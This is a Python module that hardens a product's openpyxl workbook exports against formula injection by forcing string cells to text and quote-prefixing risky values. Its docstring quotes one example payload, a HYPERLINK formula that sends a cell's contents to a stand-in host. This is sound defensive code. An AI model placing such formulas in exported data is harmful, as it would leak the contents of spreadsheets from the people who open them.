"""Workbooks the product writes: every text cell is text, never a formula.

A unit name such as ``=HYPERLINK("http://x/?"&A1,"点我")`` typed into a form must not become
a live formula in an exported workbook (CSV/formula injection). openpyxl turns any string that
starts with ``=`` into a formula and strings such as ``#N/A`` into error values, so every
workbook the product writes is made here, by :func:`new_workbook`, and every string goes through
:func:`text_cell`:

- it is stored as a string cell holding the exact original text (an export → import round trip
  is lossless; openpyxl and Excel read it back as that text);
- when its first character is one a spreadsheet may evaluate (``= + - @``, tab, carriage return
  or the full-width ``＝ ＋ － ＠``) the cell also gets Excel's quote prefix, so it shows the text and
  stays text when a person edits the cell later;
- characters a workbook cannot hold (control characters) are dropped instead of failing.

Numbers, dates and ``None`` pass through unchanged, so numeric columns stay numeric.

Write-only workbooks are guarded row by row as rows are appended; ordinary workbooks are swept
once when saved, which also covers cells set one by one (``sheet["A1"] = …``, ``cell.value = …``).
A test (tests/core/test_xlsx_safe.py) makes sure no module outside this one creates a workbook.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

# First characters a spreadsheet program may take as the start of a formula or a command.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")


def needs_quote_prefix(text: str) -> bool:
    """Whether ``text`` would be read as a formula if typed into a cell as it stands."""
    return text[:1] in FORMULA_STARTS


def clean_text(text: str) -> str:
    """``text`` without the characters a workbook cannot store."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def _guard(cell: Cell) -> None:
    """Make a cell holding a string a plain text cell; quote-prefix it when it looks active."""
    value = cell.value
    if not isinstance(value, str):
        return
    text = clean_text(value)
    if text != value:
        cell.value = text
    cell.data_type = "s"  # never "f" (formula) or "e" (error value)
    if needs_quote_prefix(text):
        cell.quotePrefix = True


def text_cell(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    """A value ready to append to a write-only ``sheet``: strings that need it become cells."""
    if not isinstance(value, str):
        return value
    text = clean_text(value)
    if not (needs_quote_prefix(text) or text in ERROR_CODES):  # else openpyxl binds it as text
        return text
    cell = Cell(sheet, row=1, column=1, value=text)
    cell.data_type = "s"
    if needs_quote_prefix(text):
        cell.quotePrefix = True
    return cell


class _GuardedWriteOnlySheet(WriteOnlyWorksheet):
    def append(self, row: Iterable[Any]) -> None:
        super().append([text_cell(self, value) for value in row])


class _GuardedSheet(Worksheet):
    def append(self, iterable: Any) -> None:
        if not isinstance(iterable, dict):
            iterable = [clean_text(v) if isinstance(v, str) else v for v in iterable]
        super().append(iterable)


class SafeWorkbook(Workbook):
    """A workbook whose text cells are always text (see the module docstring)."""

    def __init__(self, *, write_only: bool = False) -> None:
        super().__init__(write_only=write_only)
        if not write_only:
            self.remove(self.worksheets[0])  # openpyxl's first sheet: replaced by a guarded one
            self.create_sheet()

    def create_sheet(self, title: Any = None, index: int | None = None) -> Any:
        if self.read_only:
            return super().create_sheet(title, index)
        sheet: Worksheet | WriteOnlyWorksheet
        if self.write_only:
            sheet = _GuardedWriteOnlySheet(parent=self, title=title)
        else:
            sheet = _GuardedSheet(parent=self, title=title)
        self._add_sheet(sheet, index)  # type: ignore[attr-defined]  # openpyxl API, not in stubs
        return sheet

    def save(self, filename: Any) -> None:
        for sheet in self.worksheets:
            if isinstance(sheet, Worksheet):
                for row in sheet.iter_rows():
                    for cell in row:
                        if isinstance(cell, Cell):
                            _guard(cell)
        super().save(filename)


def new_workbook(*, write_only: bool = False) -> SafeWorkbook:
    """The one way to start a workbook the product writes."""
    return SafeWorkbook(write_only=write_only)


def workbook_bytes(workbook: SafeWorkbook) -> bytes:
    """The workbook as the bytes of an .xlsx file."""
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
